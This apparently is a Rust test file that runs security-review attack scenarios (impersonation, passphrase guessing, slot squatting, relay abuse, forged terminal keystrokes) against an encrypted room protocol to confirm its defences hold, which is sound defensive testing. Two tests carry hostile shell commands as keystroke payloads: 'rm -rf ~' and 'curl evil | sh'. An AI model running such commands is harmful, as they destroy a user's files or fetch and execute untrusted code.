//! The attacks from the security reviews, each run against the rooms: a
//! member posing as another, chat reaching the wrong people, passphrase
//! guessing that dodges the throttle, silent peers holding every slot, an
//! impostor claiming an absent member's signing key, a lone member with
//! another invite, a relay pinning memory, garbage handshakes, and frames
//! held back to keep a departed member alive. (The attacks on the safety
//! words are in `words`.)

use super::mitm::Mitm;
use super::*;
use crate::room::guard::MAX_IN_PROGRESS;

/// The wire messages in `out` that are sends.
fn sends(out: &[Output]) -> Vec<WireMessage> {
    out.iter()
        .filter_map(|o| match o {
            Output::Send { data, .. } => WireMessage::decode(data).ok(),
            _ => None,
        })
        .collect()
}

/// Mallory is a member, so she holds Alice's sender key. She seals frames
/// and chat "from Alice" (under Alice's current KID, and her next one, which
/// receivers used to derive and keep), helped by a relay that labels them
/// as Alice's. Without Alice's signing key none is accepted, nothing is
/// derived, and Alice's own frames keep working after Mallory leaves.
#[test]
fn a_member_cannot_pose_as_another_even_holding_its_key() {
    let mut net = Net::new();
    let a = net.join("alice", "k-e-y");
    let b = net.join("bob", "k-e-y");
    let m = net.join("mallory", "k-e-y");
    net.settle();
    net.video(&a, b"real").unwrap();
    let bob_kid = |net: &Net| net.room(&b).peers[&a].keyring.latest_kid();
    let before = bob_kid(&net);
    // What Mallory can make: Alice's key (she received it), Alice's E (public).
    let alice_key = net.room(&a).key.base().clone();
    let alice_kid = net.room(&a).key.kid();
    let alice_e = net.room(&a).me.public();
    let metadata = net.room(&a).metadata(&alice_e);
    let mallory_signing = net.room(&m).signing.clone();
    let forge = |kid: u64, base: &Key32, stream: Stream, text: &[u8], ts: u64| {
        let plaintext = FramePlaintext {
            timestamp_us: ts,
            stream,
            flags: 0,
            payload: text.to_vec(),
        }
        .encode();
        let sealed = SenderKey::new(kid, base.clone())
            .seal_at(1_000, &metadata, &plaintext)
            .unwrap();
        let signature = mallory_signing.sign_frame("testroom", &alice_e, &sealed);
        WireMessage::Frame { signature, sealed }.encode()
    };
    let next = crate::crypto::sframe::ratchet(&alice_key);
    let ts = net.ts();
    for (kid, base, stream) in [
        (alice_kid, &alice_key, Stream::Chat),
        (alice_kid + 1, &next, Stream::Chat),
        (alice_kid + 1, &next, Stream::State),
        (alice_kid, &alice_key, Stream::Video),
    ] {
        let out = net.inject(&b, &a, &forge(kid, base, stream, b"I am Alice", ts));
        assert!(
            out.iter()
                .all(|o| !matches!(o, Output::Event(Event::Chat { .. } | Event::Frame { .. }))),
            "forgery accepted"
        );
        assert!(out.iter().any(|o| matches!(o, Output::Event(Event::DecryptFailed { reason, .. }) if reason.contains("signature"))));
    }
    assert_eq!(bob_kid(&net), before, "nothing derived from a forgery");
    // Mallory leaves; Alice's fresh key and frames work at Bob at once.
    net.leave(&m);
    net.settle();
    net.video(&a, b"after").unwrap();
    assert_eq!(
        net.frames_from(&b, &a),
        vec![b"real".to_vec(), b"after".to_vec()]
    );
    // And her old key line, ratcheted on by Mallory, opens nothing.
    let out = net.inject(
        &b,
        &a,
        &forge(
            alice_kid + 2,
            &crate::crypto::sframe::ratchet(&next),
            Stream::Chat,
            b"still me",
            ts,
        ),
    );
    assert!(out
        .iter()
        .all(|o| !matches!(o, Output::Event(Event::Chat { .. }))));
}

/// A chat line reaches exactly the members verified when it was typed:
/// typed alone it goes nowhere, and a joiner can't read lines from before.
#[test]
fn chat_reaches_only_the_members_of_when_it_was_typed() {
    let mut net = Net::new();
    let a = net.join("alice", "k-e-y");
    net.settle();
    let (now, ts) = (net.now, net.ts());
    let i = net.idx(&a);
    assert!(
        net.members[i].room.send_chat("anyone?", ts, now).is_none(),
        "alone: not sent"
    );
    let b = net.join("bob", "k-e-y");
    net.settle();
    let i = net.idx(&a);
    let (now, ts) = (net.now, net.ts());
    let out = net.members[i].room.send_chat("just bob", ts, now).unwrap();
    let recorded = match &out {
        Output::Send { data, .. } => data.clone(),
        _ => unreachable!(),
    };
    net.route(&a, vec![out]);
    net.settle();
    assert!(has(
        net.events(&b),
        |e| matches!(e, Event::Chat { text, .. } if text == "just bob")
    ));
    let c = net.join("carol", "k-e-y");
    net.settle();
    let out = net.inject(&c, &a, &recorded);
    assert!(out
        .iter()
        .all(|o| !matches!(o, Output::Event(Event::Chat { .. }))));
    assert!(!has(net.events(&c), |e| matches!(e, Event::Chat { .. })));
    // A private line (owed from before a reconnect) reaches its one member.
    let i = net.idx(&a);
    let now = net.now;
    let out = net.members[i]
        .room
        .send_private_chat(&b, "for bob only", now)
        .unwrap();
    let private = match &out {
        Output::Send { data, .. } => data.clone(),
        _ => unreachable!(),
    };
    net.route(&a, vec![out]);
    net.settle();
    assert!(has(
        net.events(&b),
        |e| matches!(e, Event::Chat { text, .. } if text == "for bob only")
    ));
    // Redirected by the relay to Carol, it opens nothing.
    let out = net.inject(&c, &a, &private);
    assert!(out
        .iter()
        .all(|o| !matches!(o, Output::Event(Event::Chat { .. }))));
}

/// Guessers join one after another at one instant of the victim's clock;
/// each runs SPAKE2 with its guess and would test it offline against the
/// victim's confirmation, then leave without confirming (the relay drops
/// its confirmation). The member who was here first now confirms only
/// after the newcomer's checks out, so they get nothing to test, and each
/// abandoned handshake is counted. Told by a lying relay that the guessers
/// were here first (so the victim confirms first), every guess it gives
/// away is counted and makes the next ones wait: at most
/// `MAX_IN_PROGRESS` answered at that instant, then a minute apart.
#[test]
fn guessing_costs_the_guesser_whatever_order_the_relay_claims() {
    for guessers_first in [false, true] {
        let t0 = Instant::now();
        let mut victim = lone_room("alice", "the-real-words", 1, t0);
        victim.on_welcome("alice", &[], 64, t0);
        let mut given = 0;
        for i in 0..2001u64 {
            let id = format!("g{i}");
            let mut g = lone_room("guess", &format!("guess-number-{i}"), 100 + i, t0);
            // Presence as the relay tells it.
            let mut to_victim = if guessers_first {
                // The victim is told it joined a room the guesser was in.
                victim.peers.insert(id.clone(), peer::Peer::new(t0, true));
                vec![]
            } else {
                victim.on_peer_joined(&id, t0)
            };
            let mut to_guesser = g.on_welcome(&id, &["alice".into()], 64, t0);
            // Route both ways at one instant; the guesser's confirmations
            // never leave (it tests the guess offline instead).
            for _ in 0..20 {
                let mut next_v = Vec::new();
                for m in sends(&to_guesser) {
                    if matches!(m, WireMessage::Confirm { .. }) {
                        continue;
                    }
                    next_v.extend(victim.on_blob(&id, &m.encode(), t0, 0));
                }
                let mut next_g = Vec::new();
                for m in sends(&next_v) {
                    if matches!(m, WireMessage::Confirm { .. }) {
                        given += 1;
                    }
                    next_g.extend(g.on_blob("alice", &m.encode(), t0, 0));
                }
                to_victim.clear();
                to_guesser = next_g;
                if to_guesser.is_empty() {
                    break;
                }
            }
            victim.on_peer_left(&id, LeaveReason::Leave, t0);
        }
        let (guesses, stalls) = victim.guard.failures();
        if guessers_first {
            assert!(
                (1..=MAX_IN_PROGRESS).contains(&given),
                "{given} confirmations given at one instant"
            );
            assert_eq!(guesses as usize, given, "every guess given away counted");
        } else {
            assert_eq!(given, 0, "the member here first confirmed first");
            assert!(
                stalls >= MAX_IN_PROGRESS as u32,
                "abandoned handshakes counted"
            );
        }
        // Whatever happened, an honest newcomer still gets in afterwards.
        assert!(!victim.anyone_verified());
    }
}

/// The tie rule for members that joined at once through two relays (a
/// peer announced after us that hasn't confirmed `TIE_WAIT` into the
/// handshake gets our confirmation first) is a door for a guesser that
/// withholds its confirmation. Its width: once per peer id per
/// connection, every confirmation given counted as a guess, and the
/// guard's wait between them (so 200 guessers in a row get a few dozen,
/// not 200).
#[test]
fn the_join_tie_gives_each_guesser_one_counted_confirmation() {
    let t0 = Instant::now();
    let mut victim = lone_room("alice", "the-real-words", 1, t0);
    victim.on_welcome("alice", &[], 64, t0);
    let mut given = 0;
    let mut now = t0;
    for i in 0..200u64 {
        let id = format!("g{i}");
        let mut given_here = 0;
        let mut g = lone_room("guess", &format!("guess-number-{i}"), 100 + i, now);
        // Each side told of the other by `peer_joined` only.
        let mut to_guesser = g.on_welcome(&id, &[], 64, now);
        to_guesser.extend(g.on_peer_joined("alice", now));
        let mut to_victim = victim.on_peer_joined(&id, now);
        // Both ways, the clock moving 100 ms a pass; the guesser's
        // confirmations never leave.
        for _ in 0..40 {
            let mut next_v = Vec::new();
            for m in sends(&to_guesser) {
                if !matches!(m, WireMessage::Confirm { .. }) {
                    next_v.extend(victim.on_blob(&id, &m.encode(), now, 0));
                }
            }
            now += Duration::from_millis(100);
            next_v.extend(victim.tick(now, 0));
            let mut next_g = sends(&to_victim)
                .into_iter()
                .flat_map(|m| g.on_blob("alice", &m.encode(), now, 0))
                .collect::<Vec<_>>();
            for m in sends(&next_v) {
                if matches!(m, WireMessage::Confirm { .. }) {
                    given_here += 1;
                }
                next_g.extend(g.on_blob("alice", &m.encode(), now, 0));
            }
            to_victim = Vec::new();
            next_g.extend(g.tick(now, 0));
            to_guesser = next_g;
        }
        assert!(
            given_here <= 1,
            "guesser {i} got {given_here} confirmations first"
        );
        given += given_here;
        victim.on_peer_left(&id, LeaveReason::Leave, now);
    }
    let (guesses, _) = victim.guard.failures();
    assert!(
        given >= 1,
        "the tie rule never fired: the test tests nothing"
    );
    assert!(
        given <= 50,
        "{given} of 200 guessers got a confirmation: the wait didn't hold"
    );
    assert_eq!(guesses as usize, given, "every confirmation given counted");
}

/// One newcomer after another tries a guessed passphrase and confirms
/// honestly (wrongly). Each is a guess, counted; the guard spaces them out
/// (0.5 s, doubling to a minute) and says so; an honest member still gets
/// in after the wait.
#[test]
fn passphrase_guessing_is_throttled_and_reported() {
    let mut net = Net::new();
    let a = net.join("alice", "the-real-words");
    net.settle();
    let attempts = 200;
    for i in 0..attempts {
        let g = net.join("guess", &format!("guess-number-{i}"));
        net.settle();
        net.advance(Duration::from_millis(200));
        net.leave(&g);
        net.settle();
    }
    let answered = net
        .sent
        .iter()
        .filter(|(from, data)| {
            *from == a && matches!(WireMessage::decode(data), Ok(WireMessage::Confirm { .. }))
        })
        .count();
    // 40 s of attempts: 0.5 + 1 + 2 + 4 + 8 + 16 s of waits fit ~7 answers.
    assert!(answered <= 8, "{answered} of {attempts} guesses answered");
    assert!(answered >= 2, "the first newcomers are answered at once");
    assert!(has(
        net.events(&a),
        |e| matches!(e, Event::Guessing { failed, .. } if *failed >= 3)
    ));
    assert!(!has(net.events(&a), |e| *e == Event::WrongPassphrase));
    // An honest member still gets in (after the wait).
    let b = net.join("bob", "the-real-words");
    net.settle();
    net.advance(Duration::from_secs(65));
    assert_eq!(net.room(&a).verified_peers(), vec![b]);
}

/// Eight peers without the passphrase commit, reveal and go silent,
/// holding every handshake slot. A real joiner used to wait until they
/// left (ten minutes). Now a joiner's commitment starts a new round the
/// silent ones never answer (left out after `COMMIT_WAIT`); and without a
/// joiner their handshakes time out, free the slots and count as stalls
/// (no guess was given away, so no wait is imposed). Either way the
/// joiner is verified within a round's timeouts.
#[test]
fn silent_peers_cannot_lock_a_real_joiner_out() {
    for wait_for_timeouts in [false, true] {
        let mut m = Mitm::new(crate::crypto::safety::FULL_WIDTH, 3, false);
        m.victim("alice");
        let mut squatters = Vec::new();
        for i in 0..MAX_IN_PROGRESS {
            let (id, mut squatter) = m.new_fake();
            squatter.psk = psk(&format!("no-idea-{i}"));
            m.show(id.clone(), squatter, "alice", None);
            squatters.push(id);
        }
        // Everything up to each squatter's hello, then nothing from it.
        while let Some((to, from, msg)) = m.queue.pop_front() {
            let hello = matches!(&msg, super::mitm::Msg::Blob(d)
                if matches!(WireMessage::decode(d), Ok(WireMessage::Hello(_))));
            m.deliver(&to, &from, msg);
            if hello && squatters.contains(&from) {
                m.muted.push(from);
            }
        }
        let busy = m.victims["alice"]
            .peers
            .values()
            .filter(|p| p.hs.in_progress())
            .count();
        assert_eq!(busy, MAX_IN_PROGRESS, "the squatters hold every slot");
        if wait_for_timeouts {
            m.advance(round::HANDSHAKE_TIMEOUT + Duration::from_secs(1));
            let (guesses, stalls) = m.victims["alice"].guard.failures();
            assert_eq!(guesses, 0);
            assert_eq!(stalls, MAX_IN_PROGRESS as u32, "timed out: counted");
            assert!(m.victims["alice"]
                .peers
                .values()
                .all(|p| !p.hs.in_progress()));
        }
        let joined_at = m.now;
        m.victim_joins("bob", "alice");
        m.settle();
        while !m.victims["alice"]
            .verified_peers()
            .contains(&"bob".to_string())
        {
            m.advance(Duration::from_millis(500));
            assert!(
                m.now.duration_since(joined_at) <= round::COMMIT_WAIT * 2,
                "bob still waits after {:?}",
                m.now.duration_since(joined_at)
            );
        }
        assert_eq!(m.words("alice"), m.words("bob"));
        assert!(!m.words("alice").is_empty());
        assert_eq!(m.victims["alice"].guard.failures().0, 0, "no wait imposed");
    }
}

/// Peers new to each other can each hold all their handshake slots for
/// others who have them queued, in a circle, until the handshakes time
/// out (a 16-member room forming at once took 12 s). A peer whose SPAKE2
/// message already arrived is waiting on us, not holding a slot of ours:
/// it starts at once, slots full or not.
#[test]
fn a_peer_waiting_on_us_starts_even_when_every_slot_is_taken() {
    let mut m = Mitm::new(crate::crypto::safety::FULL_WIDTH, 4, false);
    m.victim("alice");
    // Eight peers that never answer our SPAKE2, and Bob, all in one round;
    // the eight reveal first and take every slot.
    let squatters: Vec<String> = (0..MAX_IN_PROGRESS)
        .map(|_| m.fake_joins("alice"))
        .collect();
    let bob = m.fake_joins("alice");
    let mut full = false;
    while let Some((to, from, msg)) = m.queue.pop_front() {
        let pake = matches!(&msg, super::mitm::Msg::Blob(d)
            if matches!(WireMessage::decode(d), Ok(WireMessage::Pake { .. })));
        if pake && squatters.contains(&from) {
            continue;
        }
        if pake && from == bob {
            let busy = m.victims["alice"]
                .peers
                .values()
                .filter(|p| p.hs.in_progress())
                .count();
            full |= busy == MAX_IN_PROGRESS;
        }
        m.deliver(&to, &from, msg);
    }
    assert!(full, "bob's SPAKE2 came while every slot was taken");
    assert!(
        m.victims["alice"].verified_peers().contains(&bob),
        "bob waited for a slot:\n{}",
        m.victims["alice"].debug_summary()
    );
}

/// Someone with the invite who was not in the call claims an absent
/// member's signing key in its hello, to be handed the chat owed to that
/// member after a reconnect. Signing keys are proven inside the channel
/// (a signature over this handshake's transcript), so the claim fails,
/// the impostor is never verified, and nothing is owed to it. And the
/// member itself, back on a new connection while the relay still lists
/// its old one, replaces the old one: never two verified peers with one
/// signing key.
#[test]
fn a_signing_key_is_proven_not_claimed() {
    let mut net = Net::new();
    let a = net.join("alice", "k-e-y");
    let b = net.join("bob", "k-e-y");
    net.settle();
    let bob_s = net.room(&b).signing.public();
    let bob_signing = net.room(&b).signing.clone();
    assert!(net
        .room(&a)
        .verified_signers()
        .iter()
        .any(|(s, _)| *s == bob_s));
    net.leave(&b);
    net.settle();
    // Alice owes Bob a line (typed while her connection was down).
    let mut owed = crate::room::chat::ChatQueue::default();
    owed.owe("the door code is 4711".into(), &[bob_s].into(), net.now);
    // Mallory joins with the invite, naming Bob's signing key.
    let m = net.join("mallory", "k-e-y");
    let i = net.idx(&m);
    let mut rng = ChaCha20Rng::seed_from_u64(99);
    net.members[i].room.me = LocalIdentity::generate(&mut rng, bob_s);
    net.settle();
    net.advance(Duration::from_secs(2));
    let verified = net.room(&a).verified_signers();
    assert!(verified.is_empty(), "impostor verified: {verified:?}");
    assert!(net.room(&a).is_mismatched(&m));
    assert!(has(net.events(&a), |e| matches!(e,
        Event::DecryptFailed { from, reason } if *from == m && reason.contains("signing key"))));
    for (signer, _) in &verified {
        assert!(owed.take_for(signer).is_empty());
    }
    assert_eq!(owed.len(), 1, "still owed to bob");
    // Bob himself comes back (same signing key, new connection) while the
    // relay still lists his old id: the new one replaces it.
    let b2 = {
        let id = net.join("bob", "k-e-y");
        let i = net.idx(&id);
        net.members[i].room.signing = bob_signing;
        let mut rng = ChaCha20Rng::seed_from_u64(7);
        net.members[i].room.me = LocalIdentity::generate(&mut rng, bob_s);
        id
    };
    net.settle();
    let verified = net.room(&a).verified_signers();
    assert_eq!(verified, vec![(bob_s, b2.clone())]);
    assert_eq!(owed.take_for(&bob_s), vec!["the door code is 4711"]);
}

/// A lone member with another passphrase used to make an honest joiner
/// give up ("wrong passphrase", exit 3). One refusal can't say who is
/// wrong: the joiner is told the member here disagrees, and keeps waiting;
/// the right member arriving later verifies it. Two refusals and nobody
/// confirming is the verdict.
#[test]
fn a_lone_member_with_another_invite_is_not_a_verdict() {
    let mut net = Net::new();
    let other = net.join("olga", "other-words-here");
    net.settle();
    let joe = net.join("joe", "right-words-here");
    net.settle();
    net.advance(Duration::from_secs(10));
    assert!(!has(net.events(&joe), |e| *e == Event::WrongPassphrase));
    assert!(has(net.events(&joe), |e| *e
        == Event::PassphraseDisagrees {
            peer: other.clone()
        }));
    assert!(!net.room(&joe).refused_and_unconfirmed());
    let ann = net.join("ann", "right-words-here");
    net.settle();
    // (Olga's refusals make new handshakes wait a moment.)
    net.advance(Duration::from_secs(2));
    assert_eq!(net.room(&joe).verified_peers(), vec![ann]);
    // Two members refusing, nobody confirming: that is the verdict.
    let mut net = Net::new();
    net.join("olga", "other-words-here");
    net.join("oleg", "other-words-here");
    net.settle();
    let joe = net.join("joe", "right-words-here");
    net.settle();
    net.advance(Duration::from_secs(6));
    assert!(has(net.events(&joe), |e| *e == Event::WrongPassphrase));
    assert!(net.room(&joe).refused_and_unconfirmed());
}

/// A relay announcing 50,000 peers, each pushing handshake messages and big
/// blobs: the member keeps no more than a full room's worth.
#[test]
fn a_relay_cannot_make_a_member_hold_unbounded_state() {
    let t0 = Instant::now();
    let mut alice = lone_room("alice", "k-e-y", 1, t0);
    alice.on_welcome("alice", &[], 64, t0);
    let mut handshakes = 0;
    for i in 0..50_000u32 {
        let id = format!("fake{i}");
        alice.on_peer_joined(&id, t0);
        if i < 300 {
            let mut fake = lone_room("x", "other", u64::from(i) + 10, t0);
            let out = fake.on_welcome(&id, &["alice".into()], 64, t0);
            let n = alice.me.hello().n;
            let big = WireMessage::Sealed {
                from_n: fake.me.hello().n,
                to_n: n,
                ctr: 0,
                ciphertext: vec![0; 100_000],
            };
            let junk_pake = WireMessage::Pake {
                from_n: fake.me.hello().n,
                to_n: n,
                msg: [0x41; 33],
            };
            for m in [big.clone(), junk_pake.clone(), big, junk_pake] {
                alice.on_blob(&id, &m.encode(), t0, 0);
            }
            let mut to_alice = sends(&out);
            for _ in 0..4 {
                let mut back = Vec::new();
                for m in &to_alice {
                    let out = alice.on_blob(&id, &m.encode(), t0, 0);
                    handshakes += sends(&out)
                        .iter()
                        .filter(|m| matches!(m, WireMessage::Pake { .. }))
                        .count();
                    for r in sends(&out) {
                        back.extend(fake.on_blob("alice", &r.encode(), t0, 0));
                    }
                }
                to_alice = sends(&back);
            }
        }
    }
    assert_eq!(alice.peers.len(), 64);
    assert_eq!(alice.stats.peers_ignored, 50_000 - 64);
    assert!(alice
        .peers
        .values()
        .all(|p| p.early.len() <= peer::MAX_EARLY));
    assert!(alice.peers.values().all(|p| p
        .early
        .iter()
        .all(|m| matches!(m, WireMessage::Pake { .. } | WireMessage::Confirm { .. }))));
    let in_progress = alice.peers.values().filter(|p| p.hs.in_progress()).count();
    assert!(
        in_progress <= MAX_IN_PROGRESS,
        "{in_progress} handshakes at once"
    );
    assert!(handshakes > 0);
    assert!(alice.own_commits.len() <= 64);
}

/// Only failed key confirmations from members who were here first say
/// "wrong passphrase": a squatter in the room answering with garbage
/// SPAKE2 or a weak key makes an honest joiner wait ("unverified"), not
/// give up.
#[test]
fn garbage_handshakes_are_not_a_wrong_passphrase_verdict() {
    let t0 = Instant::now();
    for weak_key in [false, true] {
        let mut joiner = lone_room("joe", "k-e-y", 1, t0);
        let out = joiner.on_welcome("joe", &["squatter".to_string()], 64, t0);
        let joe_commit = joiner.me.hello().commitment();
        assert!(sends(&out)
            .iter()
            .any(|m| matches!(m, WireMessage::Commit { commit, .. } if *commit == joe_commit)));
        let mut squatter = lone_room("sq", "k-e-y", 2, t0);
        let mut hello = squatter.me.hello();
        if weak_key {
            hello.e = [0; 32]; // low order: not contributory
        }
        let commit = WireMessage::Commit {
            round: 1,
            commit: hello.commitment(),
            seen: joe_commit,
        };
        let out = joiner.on_blob("squatter", &commit.encode(), t0, 0);
        assert!(sends(&out)
            .iter()
            .any(|m| matches!(m, WireMessage::Hello(_))));
        let out = joiner.on_blob("squatter", &WireMessage::Hello(hello).encode(), t0, 0);
        assert!(sends(&out)
            .iter()
            .any(|m| matches!(m, WireMessage::Pake { .. })));
        let pake = WireMessage::Pake {
            from_n: hello.n,
            to_n: joiner.me.hello().n,
            msg: if weak_key {
                squatter.spake_message_for_tests(&joiner.me.hello())
            } else {
                [0x41; 33]
            },
        };
        let out = joiner.on_blob("squatter", &pake.encode(), t0, 0);
        assert!(out
            .iter()
            .all(|o| !matches!(o, Output::Event(Event::AuthMismatch { .. }))));
        assert!(out
            .iter()
            .any(|o| matches!(o, Output::Event(Event::DecryptFailed { reason, .. }) if reason.contains("handshake"))));
        let later = t0 + Duration::from_secs(10);
        let out = joiner.tick(later, 0);
        assert!(out
            .iter()
            .all(|o| !matches!(o, Output::Event(Event::WrongPassphrase))));
        assert_eq!(joiner.verification(), Verification::Unverified);
    }
}

/// A relay held back a member's frames (delivering just enough to keep it
/// alive), and after the member left drips the rest out, to keep it in the
/// key set (where it would get fresh keys). Old frames don't count as life.
#[test]
fn dripped_old_frames_do_not_keep_a_departed_member_alive() {
    let mut net = Net::new();
    let a = net.join("alice", "k-e-y");
    let b = net.join("bob", "k-e-y");
    net.settle();
    // 10 s of Bob's frames: one a second reaches Alice, the rest are kept.
    let mut kept = Vec::new();
    for step in 0..100 {
        net.now += Duration::from_millis(100);
        let (now, ts) = (net.now, net.ts());
        let i = net.idx(&b);
        let out = net.members[i]
            .room
            .seal(Stream::State, 0, b"", ts, now)
            .unwrap();
        let Output::Send { data, .. } = out else {
            unreachable!()
        };
        if step % 10 == 0 {
            net.inject(&a, &b, &data);
        } else {
            kept.push(data);
        }
    }
    // Bob is gone; the relay says nothing and drips one kept frame a second.
    let i = net.idx(&b);
    net.members[i].present = false;
    let left_at = net.now;
    for data in kept.iter().take(40) {
        net.advance(Duration::from_secs(1));
        net.inject(&a, &b, data);
    }
    let timed_out = net
        .events(&a)
        .iter()
        .any(|e| matches!(e, Event::PeerLeft { peer, reason: "timeout" } if *peer == b));
    assert!(
        timed_out,
        "still alive {:?} after leaving",
        net.now - left_at
    );
}

/// Keys for a shared terminal travel sealed to the sharer alone, and say
/// truly who typed them: Carol's keys relabelled by the relay as Bob's (the
/// member allowed to type) open as nothing, and Bob's reach only the sharer.
#[test]
fn share_keys_cannot_be_forged_or_redirected() {
    let mut net = Net::new();
    let a = net.join("ada", "k-e-y");
    let b = net.join("bob", "k-e-y");
    let c = net.join("carol", "k-e-y");
    net.settle();
    let now = net.now;
    let keys_from = |net: &mut Net, from: &str, to: &str, keys: &[u8]| -> Vec<u8> {
        let i = net.idx(from);
        match net.members[i].room.send_share_keys(to, keys, now) {
            Some(Output::Send { data, .. }) => data,
            other => panic!("no sealed keys: {other:?}"),
        }
    };
    let is_keys = |o: &Output| matches!(o, Output::Event(Event::ShareKeys { .. }));
    // Bob's keys open at Ada's, as Bob's.
    let bobs = keys_from(&mut net, &b, &a, b"ls\r");
    let out = net.inject(&a, &b, &bobs);
    assert!(out.iter().any(|o| matches!(
        o,
        Output::Event(Event::ShareKeys { from, keys }) if *from == b && keys == b"ls\r"
    )));
    // Carol's keys, relabelled as Bob's: refused, and counted.
    let carols = keys_from(&mut net, &c, &a, b"rm -rf ~\r");
    let out = net.inject(&a, &b, &carols);
    assert!(!out.iter().any(is_keys), "{out:?}");
    assert!(out
        .iter()
        .any(|o| matches!(o, Output::Event(Event::DecryptFailed { .. }))));
    // Bob's keys redirected to Carol: they open nothing there.
    let out = net.inject(&c, &b, &bobs);
    assert!(!out.iter().any(is_keys), "{out:?}");
    // Replayed to Ada: the pairwise counter refuses the second copy.
    let out = net.inject(&a, &b, &bobs);
    assert!(!out.iter().any(is_keys), "{out:?}");
}

/// Red team (share claim 2): a grant names a peer id, so whoever the
/// room lets speak as that id may type. Ada (sharing) has verified Bob.
/// Mallory, a member with her own signing key, runs a fresh handshake
/// with Ada while the relay labels every message of hers as Bob's and
/// hands Ada's replies to Bob to her. Bob's id must not end up speaking
/// for Mallory: her keys sealed to Ada never surface as
/// `ShareKeys { from: bob }` unless Ada was told Bob left first (which
/// revokes his grant).
#[test]
fn redteam_a_relay_cannot_slip_another_member_under_a_granted_id() {
    let mut net = Net::new();
    let a = net.join("ada", "k-e-y");
    let b = net.join("bob", "k-e-y");
    net.settle();
    let mut now = net.now;
    let mut mallory = lone_room("mallory", "k-e-y", 4242, now);
    let mut to_ada: Vec<Vec<u8>> = Vec::new();
    let mut ada_events: Vec<Event> = Vec::new();
    let collect = |out: Vec<Output>, q: &mut Vec<Vec<u8>>| {
        for o in out {
            if let Output::Send { data, .. } = o {
                q.push(data);
            }
        }
    };
    collect(
        mallory.on_welcome("m0", std::slice::from_ref(&a), 64, now),
        &mut to_ada,
    );
    // The relay makes Ada start a new round (a fake join), and from now on
    // withholds everything between Ada and the real Bob.
    let mut to_mallory = Vec::new();
    {
        let i = net.idx(&a);
        for o in net.members[i].room.on_peer_joined("ghost", now) {
            match o {
                Output::Send { data, to, .. } if to.as_deref() != Some("ghost") => {
                    to_mallory.push(data)
                }
                Output::Event(e) => ada_events.push(e),
                _ => {}
            }
        }
    }
    for _ in 0..60 {
        for data in std::mem::take(&mut to_ada) {
            // Commitments are in the clear: the relay bumps Mallory's round
            // past Bob's, so hers reads as Bob's next one.
            let data = match WireMessage::decode(&data) {
                Ok(WireMessage::Commit {
                    round,
                    commit,
                    seen,
                }) => WireMessage::Commit {
                    round: round + 1000,
                    commit,
                    seen,
                }
                .encode()
                .to_vec(),
                _ => data,
            };
            for o in net.inject(&a, &b, &data) {
                match o {
                    Output::Send { data, to, .. } if to.as_deref() != Some("ghost") => {
                        to_mallory.push(data)
                    }
                    Output::Event(e) => ada_events.push(e),
                    _ => {}
                }
            }
        }
        let ts = net.ts();
        for data in std::mem::take(&mut to_mallory) {
            collect(mallory.on_blob(&a, &data, now, ts), &mut to_ada);
        }
        now += Duration::from_millis(100);
        net.now = now;
        let ts = net.ts();
        collect(mallory.tick(now, ts), &mut to_ada);
        let i = net.idx(&a);
        for o in net.members[i].room.tick(now, ts) {
            match o {
                Output::Send { data, to, .. } if to.as_deref() != Some("ghost") => {
                    collect(mallory.on_blob(&a, &data, now, ts), &mut to_ada)
                }
                Output::Event(e) => ada_events.push(e),
                _ => {}
            }
        }
    }
    let bob_left = ada_events
        .iter()
        .any(|e| matches!(e, Event::PeerLeft { peer, .. } if *peer == b));
    let keys = match mallory.send_share_keys(&a, b"curl evil | sh\r", now) {
        Some(Output::Send { data, .. }) => data,
        _ => {
            // The defence: Bob's id is bound to his connection key; a hello
            // under it with another key is refused, so Mallory never gets a
            // channel as Bob.
            assert!(
                ada_events.iter().any(|e| matches!(e,
                    Event::DecryptFailed { from, reason } if *from == b && reason.contains("connection key"))),
                "{ada_events:?}"
            );
            return;
        }
    };
    let out = net.inject(&a, &b, &keys);
    let as_bob = out.iter().any(|o| {
        matches!(o, Output::Event(Event::ShareKeys { from, keys })
            if *from == b && keys == b"curl evil | sh\r")
    });
    assert!(
        !as_bob || bob_left,
        "Mallory's keys reach Ada as Bob's, with no PeerLeft for Bob (his grant stands); \
         Ada saw: {ada_events:?}"
    );
}
